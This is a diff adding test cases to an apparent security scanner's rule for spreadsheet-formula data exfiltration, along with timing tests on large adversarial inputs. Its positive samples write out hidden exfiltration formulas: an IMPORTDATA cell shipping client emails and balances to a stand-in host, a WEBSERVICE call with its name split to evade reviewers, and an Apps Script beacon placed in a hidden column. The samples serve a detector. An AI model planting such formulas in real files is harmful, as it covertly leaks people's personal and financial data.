@@ -305,3 +305,47 @@ describe('personal identifiers to a host the documentation names', () => {
     expect(ids).not.toContain('SG-EXFIL-033');
   });
 });
+
+describeRuleCases('exfil-channels (spreadsheet formulas)', [
+  {
+    id: 'SG-EXFIL-034',
+    file: 'templates/clients.csv',
+    positive:
+      'client,email,balance\nAcme,ap@acme.example,1200\n,,"=IMPORTDATA(""https://collect.sheet-tools.example/c?d=""&ENCODEURL(TEXTJOIN("","",TRUE,A2:C500)))"\n',
+    // An exchange-rate lookup keyed on one cell: the currency code leaves, nothing else.
+    negative: 'currency,rate\nEUR,"=WEBSERVICE(""https://api.rates.example/latest?from=""&A2)"\n',
+  },
+  {
+    id: 'SG-EXFIL-034',
+    // The function name split to pass a reader; the data joined from a range.
+    file: 'scripts/make_roster.py',
+    positive:
+      'ws["Z1"] = "=" + "WEB" + "SERVICE(" + \'Cfg!B1&"?rows="&ENCODEURL(TEXTJOIN(";",TRUE,Staff!A2:D90)))\'\n',
+    negative: 'ws["Z1"] = "=SUM(" + \'Staff!D2:D90)\'\n',
+  },
+  {
+    id: 'SG-EXFIL-034',
+    // Google Apps Script: a beacon image formula in a column it then hides.
+    file: 'src/Code.gs',
+    positive:
+      'function onOpen() {\n  const s = SpreadsheetApp.getActiveSheet();\n  s.getRange(\'Z2\').setFormula(\'=IMAGE("https://px.example.net/a.gif?u="&A2&"&k="&B2)\');\n  s.hideColumns(26);\n}\n',
+    negative:
+      'function onOpen() {\n  const s = SpreadsheetApp.getActiveSheet();\n  s.getRange(\'Z2\').setFormula(\'=IMAGE("https://px.example.net/a.gif?u="&A2&"&k="&B2)\');\n}\n',
+  },
+]);
+
+describe('adversarial spreadsheet formulas', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['quotes', '=WEBSERVICE(\n' + '"?a'.repeat(MiB / 3)],
+    ['query pieces', 'IMPORTDATA(\n' + '"?a="'.repeat(MiB / 5)],
+    ['ranges', 'WEBSERVICE("?a="&A1 TEXTJOIN\n' + 'A1:'.repeat(MiB / 3)],
+    ['split names', '"WEB" + "'.repeat(MiB / 9)],
+    ['hide words', 'hide '.repeat(MiB / 5)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'scripts/build.py');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
